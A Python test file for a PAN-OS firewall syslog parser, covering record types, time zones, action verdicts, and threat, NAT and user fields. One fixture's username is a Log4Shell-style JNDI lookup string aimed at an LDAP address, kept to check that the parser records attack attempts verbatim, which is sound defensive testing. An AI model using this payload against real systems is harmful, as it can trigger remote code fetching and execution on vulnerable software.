"""PAN-OS fidelity (issue 23): record types, time zones, verdicts, threat/NAT/user fields."""

from __future__ import annotations

from datetime import UTC, datetime

import polars as pl
import pytest
from tests.boundary.parsers.test_panos import TRAFFIC_FIELDS, URL_FIELDS, VIRUS_FIELDS, record

from bastion.boundary.lines import split_lines
from bastion.boundary.parsers import ParseContext, ParseResult, get_parser
from bastion.boundary.parsers.panos_records import ACTIONS
from bastion.core.events import LINE_COLUMN

PANOS = get_parser("panos")
TRAFFIC = record(TRAFFIC_FIELDS)
HIGH_RES = 102  # TRAFFIC's High Resolution Timestamp (PAN-OS 10 and later)

# Record types PAN-OS sends to the same syslog target, as PAN-OS 10.x writes them.
UNCLAIMED = {
    "SYSTEM": "1,2021/10/26 15:05:03,,SYSTEM,general,2561,2021/10/26 15:05:03,,general,,0,0,"
    'general,informational,"Connection to Update server closed: updates.paloaltonetworks.com, '
    'source: 81.2.69.193",1234567890,0x0,0,0,0,0,,PA-VM,0,0,2021-10-26T15:05:03.440-07:00',
    "CONFIG": "1,2025/11/25 08:10:00,013201001234,CONFIG,0,0,2025/11/25 08:10:00,10.20.30.5,,set,"
    "admin,Web,Succeeded, deviceconfig system,1102,0x0,0,0,0,0,,pa-edge-01,0,0,"
    "2025-11-25T08:10:00.000+00:00",
    "HIP-MATCH": "1,2025/11/25 08:11:00,013201001234,HIP-MATCH,0,2305,2025/11/25 08:11:00,"
    "corp\\carol,vsys1,LT-0042,Windows,10.20.30.77,corp-hip,1,profile,,1103,0x0,0,0,0,0,,"
    "pa-edge-01,1,0.0.0.0,,2025-11-25T08:11:00.000+00:00",
    "GLOBALPROTECT": "1,2025/11/25 08:12:00,013201001234,GLOBALPROTECT,0,2817,2025/11/25 08:12:00,"
    "vsys1,gateway-auth,login,LDAP,,carol,GB,LT-0042,203.0.113.77,0.0.0.0,10.99.0.7,0.0.0.0,,,"
    'Windows,"Microsoft Windows 10 Pro , 64-bit",1,,,,success,,0,,0,GP-Gateway,1104,0x0,'
    "2025-11-25T08:12:00.000+00:00",
    "USERID": "1,2025/11/25 08:13:00,013201001234,USERID,login,2049,2025/11/25 08:13:00,vsys1,"
    "10.20.30.77,corp\\carol,,0,1,2700,0,0,ad-agent,AD,1105,0x0,0,0,0,0,,pa-edge-01,1,,"
    "2025/11/25 08:13:00,1,0x0,corp\\carol",
}
REASON = "panos: PAN-OS {} records are not read (read: TRAFFIC, THREAT, SYSTEM authentication)"
SYSTEM_REASON = (
    "panos: PAN-OS SYSTEM records are not read, except authentications "
    "(event id general; read: auth-fail, auth-success)"
)
AUTH_FAIL = (
    "<14>Nov 25 08:08:00 pa-edge-01 1,2025/11/25 08:08:00,013201001234,SYSTEM,auth,0,"
    '2025/11/25 08:08:00,,auth-fail,,0,0,general,medium,"failed authentication for user '
    "'${jndi:ldap://203.0.113.66:1389/a}'.   Reason: Invalid username/password. "
    'From: 203.0.113.66.",1100,0x0,0,0,0,0,,pa-edge-01,0,0,2025-11-25T08:08:00.250+00:00'
)


def both(lines: list[str], ctx: ParseContext | None = None) -> list[ParseResult]:
    """Parse ``lines`` line by line and as a chunk of bytes."""
    data = "".join(f"{line}\n" for line in lines).encode()
    return [
        PANOS.parse(pl.Series(lines, dtype=pl.String), ctx or ParseContext()),
        PANOS.read(split_lines(data), ctx or ParseContext()),
    ]


def reasons(result: ParseResult) -> dict[int, str]:
    return dict(result.rejects.iter_rows())


@pytest.mark.parametrize("kind", sorted(UNCLAIMED))
@pytest.mark.parametrize("where", ["first", "middle", "alone"])
def test_an_unclaimed_record_type_is_rejected_by_name_and_the_rest_read(
    kind: str, where: str
) -> None:
    other = UNCLAIMED[kind]
    lines = {
        "first": [other, TRAFFIC, TRAFFIC],
        "middle": [TRAFFIC, other, TRAFFIC],
        "alone": [other],
    }[where]
    at = lines.index(other)
    want = SYSTEM_REASON if kind == "SYSTEM" else REASON.format(kind)
    for result in both(lines):
        assert reasons(result) == {at: want}
        assert result.events.height == len(lines) - 1
        assert set(result.events.get_column("source.ip")) <= {"10.20.30.40"}


def test_a_failed_admin_login_is_an_authentication_event() -> None:
    for result in both([TRAFFIC, AUTH_FAIL]):
        assert result.rejects.height == 0
        [auth] = result.events.filter(pl.col(LINE_COLUMN) == 1).to_dicts()
        assert (auth["event.dataset"], auth["event.category"], auth["event.outcome"]) == (
            "panos.system",
            "authentication",
            "failure",
        )
        assert auth["event.action"] == "auth-fail"
        assert auth["user.name"] == "${jndi:ldap://203.0.113.66:1389/a}"
        assert auth["source.ip"] == "203.0.113.66"
        assert auth["@timestamp"] == datetime(2025, 11, 25, 8, 8, 0, 250000, tzinfo=UTC)
        assert auth["event.type"] is None
        assert auth["rule.name"] is None


def test_an_offset_in_the_record_wins_over_the_sources_zone() -> None:
    line = record({**TRAFFIC_FIELDS, HIGH_RES: "2021-11-16T11:14:58.908-08:00"}, 115)
    for zone in ("UTC", "Europe/London", "Asia/Tokyo"):
        for result in both([line], ParseContext(timezone=zone)):
            [stamp] = result.events.get_column("@timestamp")
            assert stamp == datetime(2021, 11, 16, 19, 14, 58, 908000, tzinfo=UTC)


def test_a_time_without_offset_is_in_the_sources_zone() -> None:
    winter, summer = "2025/01/15 12:00:00", "2025/07/15 12:00:00"
    lines = [record({**TRAFFIC_FIELDS, 6: winter}), record({**TRAFFIC_FIELDS, 6: summer})]
    expected = {
        "UTC": [datetime(2025, 1, 15, 12, tzinfo=UTC), datetime(2025, 7, 15, 12, tzinfo=UTC)],
        "America/Los_Angeles": [
            datetime(2025, 1, 15, 20, tzinfo=UTC),
            datetime(2025, 7, 15, 19, tzinfo=UTC),
        ],
        "Europe/London": [
            datetime(2025, 1, 15, 12, tzinfo=UTC),
            datetime(2025, 7, 15, 11, tzinfo=UTC),
        ],
    }
    for zone, want in expected.items():
        for result in both(lines, ParseContext(timezone=zone)):
            assert result.events.sort(LINE_COLUMN).get_column("@timestamp").to_list() == want
    default = both(lines)[0].events.sort(LINE_COLUMN).get_column("@timestamp").to_list()
    assert default == expected["UTC"]


# Every action PAN-OS writes in TRAFFIC and THREAT logs, and its verdict.
VERDICTS = {
    "allow": "allowed",
    "alert": "allowed",
    "continue": "allowed",
    "override": "allowed",
    "deny": "denied",
    "drop": "denied",
    "drop-icmp": "denied",
    "drop-all": "denied",
    "drop-all-packets": "denied",
    "drop-packet": "denied",
    "random-drop": "denied",
    "reset-client": "denied",
    "reset-server": "denied",
    "reset-both": "denied",
    "block": "denied",
    "block-url": "denied",
    "block-ip": "denied",
    "block-continue": "denied",
    "block-override": "denied",
    "override-lockout": "denied",
    "sinkhole": "denied",
    "syncookie-sent": None,
    "syn-cookie": None,
    "not-applicable": None,
}


def test_every_action_has_its_verdict_from_one_table() -> None:
    assert ACTIONS == VERDICTS
    actions = sorted(VERDICTS)
    lines = [record({**VIRUS_FIELDS, 30: action}) for action in actions]
    lines += [record({**TRAFFIC_FIELDS, 30: action.upper()}) for action in actions]
    for result in both(lines):
        assert result.rejects.height == 0
        got = result.events.sort(LINE_COLUMN).select("event.action", "event.type").rows()
        assert got == [(a, VERDICTS[a]) for a in actions] * 2


def test_an_action_not_in_the_table_is_an_unknown_verdict() -> None:
    for result in both([record({**TRAFFIC_FIELDS, 30: "quarantine-ish"})]):
        assert result.events.select("event.action", "event.type").row(0) == (
            "quarantine-ish",
            None,
        )


def test_rule_name_is_the_policy_and_the_threat_has_its_own_fields() -> None:
    threat = record({**VIRUS_FIELDS, 11: "allow-web", 32: "Trojan/Win32.agent(12345)"})
    url = record(URL_FIELDS)
    for result in both([threat, url]):
        rows = result.events.sort(LINE_COLUMN).to_dicts()
        assert [r["rule.name"] for r in rows] == ["allow-web", "allow-web"]
        assert (rows[0]["threat.name"], rows[0]["threat.id"]) == ("Trojan/Win32.agent", "12345")
        assert rows[0]["threat.severity"] == "medium"
        # A URL record's "(9999)" is no threat: its category is the URL's.
        assert (rows[1]["threat.name"], rows[1]["threat.id"]) == (None, None)
        assert rows[1]["url.category"] == "malware"
        assert [r["network.application"] for r in rows] == ["web-browsing", "web-browsing"]


def test_nat_and_users() -> None:
    no_nat = {9: "0.0.0.0", 10: "0.0.0.0", 26: "0", 27: "0", 12: "", 13: ""}
    upn = {12: "jdoe@corp.example", 13: "CORP\\svc-web", 10: "10.20.30.80", 27: "8080"}
    lines = [
        TRAFFIC,
        record({**TRAFFIC_FIELDS, **no_nat}),
        record({**TRAFFIC_FIELDS, **no_nat, **upn}),
    ]
    columns = [
        "source.nat.ip",
        "source.nat.port",
        "destination.nat.ip",
        "destination.nat.port",
        "user.name",
        "user.domain",
        "destination.user.name",
    ]
    for result in both(lines):
        assert result.events.sort(LINE_COLUMN).select(columns).rows() == [
            ("203.0.113.10", 40000, "93.184.216.34", 443, "alice", "nhs", None),
            (None, None, None, None, None, None, None),
            (None, None, "10.20.30.80", 8080, "jdoe", "corp.example", "svc-web"),
        ]


def test_a_name_where_an_address_belongs_is_rejected_or_nulled() -> None:
    lines = [
        record({**TRAFFIC_FIELDS, 7: "fw-inside"}),
        record({**TRAFFIC_FIELDS, 8: "10.0.0.300"}),
        record({**TRAFFIC_FIELDS, 9: "nat-pool-a"}),
    ]
    for result in both(lines):
        assert reasons(result) == {
            0: "panos: source address fw-inside is not an IP address",
            1: "panos: destination address 10.0.0.300 is not an IP address",
        }
        assert result.events.select("source.ip", "source.nat.ip").rows() == [("10.20.30.40", None)]


def test_a_generated_time_written_with_an_offset_keeps_it() -> None:
    line = record({**TRAFFIC_FIELDS, 6: "2021-11-16T11:14:58-08:00"})
    for result in both([line], ParseContext(timezone="Asia/Tokyo")):
        [stamp] = result.events.get_column("@timestamp")
        assert stamp == datetime(2021, 11, 16, 19, 14, 58, tzinfo=UTC)
